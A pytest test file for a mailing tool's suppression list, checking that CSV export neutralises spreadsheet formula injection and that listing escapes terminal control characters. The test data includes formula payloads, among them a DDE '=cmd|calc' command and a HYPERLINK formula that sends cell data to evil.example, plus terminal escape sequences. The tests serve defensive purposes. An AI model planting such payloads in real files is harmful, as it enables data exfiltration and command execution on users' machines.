"""`suppressions export` and `list` with hostile addresses and reasons: no cell a spreadsheet
evaluates (CSV injection), no control character reaching the terminal."""

from __future__ import annotations

import csv
import os
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

pytestmark = [pytest.mark.e2e, pytest.mark.sqlite_only]
SECRET = "test-secret-0123456789abcdef"
# The review's cells: addresses and reasons a spreadsheet would evaluate.
FORMULA_ADDRESSES = ["=1+2@example.com", "=cmd|calc!a0@example.com", "+sum@example.com",
                     "-1+1@example.com"]
FORMULA_REASONS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1,2)",
                   "@SUM(1,2)", "-1+1", "\tdata", "\rdata"]


def cli(home: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("CLUBJAPON_", "SMTP_"))}
    env.update(CLUBJAPON_HOME=str(home), CLUBJAPON_SECRET=SECRET)
    return subprocess.run([sys.executable, "-m", "clubjapon_ops", *args], env=env,
                          capture_output=True, text=True, timeout=60, check=False)


def add(home: Path, email: str, reason: str, source: str = "bounce") -> None:
    """A suppression as the bounce mailbox or an old version could have stored it."""
    with sqlite3.connect(home / "var" / "clubjapon.sqlite3") as db:
        db.execute("INSERT INTO suppressions (email, reason, source, created_at) VALUES "
                   "(?, ?, ?, '2026-11-06 08:00:00')", (email, reason, source))


@pytest.fixture
def home(tmp_path: Path) -> Path:
    (tmp_path / "config").mkdir()
    assert cli(tmp_path, "suppressions", "list").returncode == 0  # creates the database
    return tmp_path


def test_export_writes_no_cell_a_spreadsheet_evaluates(home: Path, tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["email", "reason"])
        for address in FORMULA_ADDRESSES:
            writer.writerow([address, "imported"])
    imported = cli(home, "suppressions", "import", str(source))
    assert imported.returncode == 0, imported.stderr
    assert f"{len(FORMULA_ADDRESSES)} added" in imported.stdout, imported.stdout
    for i, reason in enumerate(FORMULA_REASONS):
        add(home, f"reader{i}@example.com", reason)
    add(home, "@sum@example.org", "plain")  # no address parser accepts it; a store may

    out = tmp_path / "export.csv"
    exported = cli(home, "suppressions", "export", str(out))
    assert exported.returncode == 0, exported.stderr
    with out.open(encoding="utf-8", newline="") as handle:
        cells = [c for row in csv.reader(handle) for c in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    for address in FORMULA_ADDRESSES:
        assert "'" + address in cells
    for reason in FORMULA_REASONS:
        assert "'" + reason in cells
    assert "'@sum@example.org" in cells
    assert "reader0@example.com" in cells  # a harmless cell is left as it is

    # The export imported again (somewhere else) gives back the same addresses.
    back = out
    other = tmp_path / "other"
    (other / "config").mkdir(parents=True)
    again = cli(other, "suppressions", "import", str(back))
    assert again.returncode == 0, again.stderr
    with sqlite3.connect(other / "var" / "clubjapon.sqlite3") as db:
        emails = {r[0] for r in db.execute("SELECT email FROM suppressions")}
    assert set(FORMULA_ADDRESSES) <= emails
    assert not any(e.startswith("'") for e in emails)


def test_list_escapes_control_characters(home: Path) -> None:
    add(home, "yui\x07\x1b]0;pwned\x07@example.com", "550 \x1b[2J\tgone\r\x9b31m")
    listed = cli(home, "suppressions", "list")
    assert listed.returncode == 0, listed.stderr
    shown = listed.stdout
    assert not any(ch in shown for ch in "\x07\x1b\t\r\x9b"), repr(shown)
    assert "yui\\x07\\x1b]0;pwned\\x07@example.com" in shown
    assert "(550 \\x1b[2J\\tgone\\r\\x9b31m)" in shown
